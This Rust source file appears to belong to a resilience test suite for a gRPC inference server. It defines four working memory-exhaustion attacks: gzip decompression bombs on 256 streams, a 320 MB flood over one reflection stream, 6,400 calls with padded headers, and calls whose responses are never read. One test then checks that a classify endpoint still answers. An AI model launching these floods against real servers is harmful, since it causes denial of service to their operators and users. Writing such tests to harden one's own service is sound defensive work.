//! gRPC calls that would take memory for as long as their client likes.

use std::{io::Write, time::Duration};

use anyhow::{Context, ensure};
use bytes::Bytes;
use flate2::{Compression, write::GzEncoder};
use h2::{
    RecvStream, SendStream,
    client::{Builder, SendRequest},
};
use http::Request;
use mien_loadgen::connection::{Connection, request};
use tokio::{net::TcpStream, time::sleep};

use crate::attack::{Attack, MAX_LATENCY, Target};

const STREAM_INFER: &str = "/inference.GRPCInferenceService/ModelStreamInfer";
const INFER: &str = "/inference.GRPCInferenceService/ModelInfer";
const SERVER_LIVE: &str = "/inference.GRPCInferenceService/ServerLive";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// Number of calls per connection: the maximum of the server.
const CALLS: usize = 64;
/// Time for which the calls stay open.
const OPEN: Duration = Duration::from_secs(5);

pub(super) fn attacks() -> Vec<Attack> {
    let attack = |name, about, run| Attack {
        name,
        about,
        flags: &[],
        max_latency: MAX_LATENCY,
        run,
    };
    vec![
        attack(
            "grpc-gzip-streams",
            "256 idle streams that each have sent 10 MiB as 10 kB of gzip",
            |target| Box::pin(gzip_streams(target)),
        ),
        attack(
            "grpc-reflection",
            "320 MB of messages on one idle reflection stream",
            |target| Box::pin(reflection(target)),
        ),
        attack(
            "grpc-headers",
            "6,400 open calls with 8 kB of short headers",
            |target| Box::pin(headers(target)),
        ),
        attack(
            "grpc-unread-responses",
            "6,400 calls whose responses the client does not accept",
            |target| Box::pin(unread_responses(target)),
        ),
    ]
}

/// Connects. The client accepts `window` bytes per response.
async fn connect(target: Target, window: u32) -> anyhow::Result<SendRequest<Bytes>> {
    let stream = TcpStream::connect(target.grpc).await?;
    let (client, connection) = Builder::new()
        .initial_window_size(window)
        .handshake(stream)
        .await?;
    tokio::spawn(async move {
        // The server may close the connection.
        let _ = connection.await;
    });
    Ok(client)
}

/// A call and its response. The call is reset when it is dropped.
struct Call {
    body: SendStream<Bytes>,
    response: h2::client::ResponseFuture,
}

/// Starts a call.
async fn call(
    client: SendRequest<Bytes>,
    path: &str,
    headers: &[(String, String)],
) -> anyhow::Result<(SendRequest<Bytes>, Call)> {
    let mut client = client.ready().await?;
    let mut request = Request::post(format!("http://localhost{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    for (name, value) in headers {
        request = request.header(name, value);
    }
    let (response, body) = client.send_request(request.body(())?, false)?;
    Ok((client, Call { body, response }))
}

/// Returns the message with its prefix.
fn framed(is_compressed: bool, message: &[u8]) -> anyhow::Result<Bytes> {
    let length = u32::try_from(message.len())?.to_be_bytes();
    Ok([&[u8::from(is_compressed)], &length[..], message]
        .concat()
        .into())
}

/// Returns a length-delimited field.
fn field(number: u8, value: &[u8]) -> Vec<u8> {
    let mut field = vec![number << 3 | 2];
    let mut length = value.len();
    while length > 127 {
        field.push(length as u8 | 128);
        length >>= 7;
    }
    field.push(length as u8);
    field.extend_from_slice(value);
    field
}

/// Returns a `ModelInferRequest` for a model that does not exist.
fn unknown_model(contents: usize) -> Vec<u8> {
    [field(1, b"none"), field(7, &vec![0; contents])].concat()
}

async fn gzip_streams(target: Target) -> anyhow::Result<()> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&unknown_model(10 << 20))?;
    let message = framed(true, &encoder.finish()?)?;
    let gzip = [("grpc-encoding".to_owned(), "gzip".to_owned())];
    let mut open = Vec::new();
    for _ in 0..4 {
        let mut client = connect(target, 1 << 16).await?;
        for _ in 0..CALLS {
            let (next, mut call) = call(client, STREAM_INFER, &gzip).await?;
            call.body.send_data(message.clone(), false)?;
            open.push(call);
            client = next;
        }
    }
    sleep(OPEN).await;
    Ok(())
}

async fn reflection(target: Target) -> anyhow::Result<()> {
    let message = [field(1, &[b'a'; 10_000]), field(7, b"*")].concat();
    let message = framed(false, &message)?;
    let client = connect(target, 1 << 20).await?;
    let (_client, call) = call(client, REFLECTION, &[]).await?;
    let Call { mut body, response } = call;
    let reader = tokio::spawn(async move { read_all(response.await?.into_body()).await });
    for _ in 0..32_000 {
        send(&mut body, message.clone()).await?;
    }
    sleep(Duration::from_secs(1)).await;
    let image = std::fs::read("tests/fixtures/faces/happy.png")?;
    let classify = request("POST", target.http, "/v1/classify", &[], &image);
    let status = Connection::new(target.http).send(&classify).await?.status;
    ensure!(status == 200, "a classification got status {status}");
    drop(body);
    reader.abort();
    Ok(())
}

/// Sends bytes when the server accepts them.
async fn send(body: &mut SendStream<Bytes>, bytes: Bytes) -> anyhow::Result<()> {
    body.reserve_capacity(bytes.len());
    while body.capacity() < bytes.len() {
        let capacity = std::future::poll_fn(|context| body.poll_capacity(context)).await;
        capacity.context("the server has ended the stream")??;
    }
    body.send_data(bytes, false)?;
    Ok(())
}

async fn read_all(mut body: RecvStream) -> Result<(), h2::Error> {
    while let Some(bytes) = body.data().await {
        body.flow_control().release_capacity(bytes?.len())?;
    }
    Ok(())
}

async fn headers(target: Target) -> anyhow::Result<()> {
    // Each of these headers counts 37 bytes in the limit of HTTP/2.
    let headers: Vec<_> = (0..200)
        .map(|i| (format!("x-{i}"), String::new()))
        .collect();
    let mut open = Vec::new();
    for _ in 0..100 {
        let mut client = connect(target, 1 << 16).await?;
        for _ in 0..CALLS {
            let path = if open.len() % 2 == 0 {
                SERVER_LIVE
            } else {
                INFER
            };
            let (next, call) = call(client, path, &headers).await?;
            open.push(call);
            client = next;
        }
    }
    sleep(OPEN).await;
    Ok(())
}

async fn unread_responses(target: Target) -> anyhow::Result<()> {
    let empty = framed(false, &[])?;
    let mut open = Vec::new();
    for _ in 0..100 {
        let mut client = connect(target, 0).await?;
        for _ in 0..CALLS {
            let (next, mut call) = call(client, SERVER_LIVE, &[]).await?;
            client = next;
            // The server may have rejected the call already.
            if call.body.send_data(empty.clone(), true).is_ok() {
                open.push(call);
            }
        }
    }
    sleep(OPEN).await;
    Ok(())
}
